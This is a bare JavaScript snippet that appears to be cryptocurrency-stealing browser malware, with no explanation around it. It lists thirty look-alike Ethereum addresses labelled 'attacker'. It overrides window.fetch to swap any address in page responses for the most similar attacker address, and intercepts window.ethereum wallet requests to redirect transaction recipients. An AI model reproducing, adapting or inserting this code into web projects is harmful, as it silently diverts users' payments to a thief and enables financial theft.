const attacker = [
    "0x0000fc4a4858bafef54d1b1d70697bfd8a8c1000",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8c2eef",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8c4dde",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8c6ccd",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8c8bbc",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8caaab",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8cc99a",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8ce889",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8d0778",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8d2667",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8d4556",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8d6445",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8d8334",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8da223",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8dc112",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8de001",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8dfef0",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8e1ddf",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8e3cce",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8e5bbd",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8e7aac",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8e999b",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8eb88a",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8ed779",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8ef668",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8f1557",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8f3446",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8f5335",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8f7224",
  "0x0000fc4a4858bafef54d1b1d70697bfd8a8f9113",
];
function levenshtein(a, b) { const m = []; for (let i = 0; i <= b.length; i++) m[i] = [i];
  for (let j = 0; j <= a.length; j++) m[0][j] = j;
  for (let i = 1; i <= b.length; i++) for (let j = 1; j <= a.length; j++)
    m[i][j] = b[i - 1] === a[j - 1] ? m[i - 1][j - 1] : Math.min(m[i - 1][j - 1], m[i][j - 1], m[i - 1][j]) + 1;
  return m[b.length][a.length]; }
function closest(addr) { return attacker.reduce((best, a) => levenshtein(addr, a) < levenshtein(addr, best) ? a : best); }
function swap(text) { return text.replace(/0x[a-fA-F0-9]{40}/g, closest); }
if (typeof window !== "undefined") {
  const of = window.fetch;
  window.fetch = async function (...args) { const r = await of(...args); const t = swap(await r.clone().text()); return new Response(t, r); };
  const open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function (...a) { this.addEventListener("load", () => {}); return open.apply(this, a); };
  if (window.ethereum) { const req = window.ethereum.request; window.ethereum.request = (p) => { if (p.params) p.params[0].to = closest(p.params[0].to || ""); return req(p); }; }
}
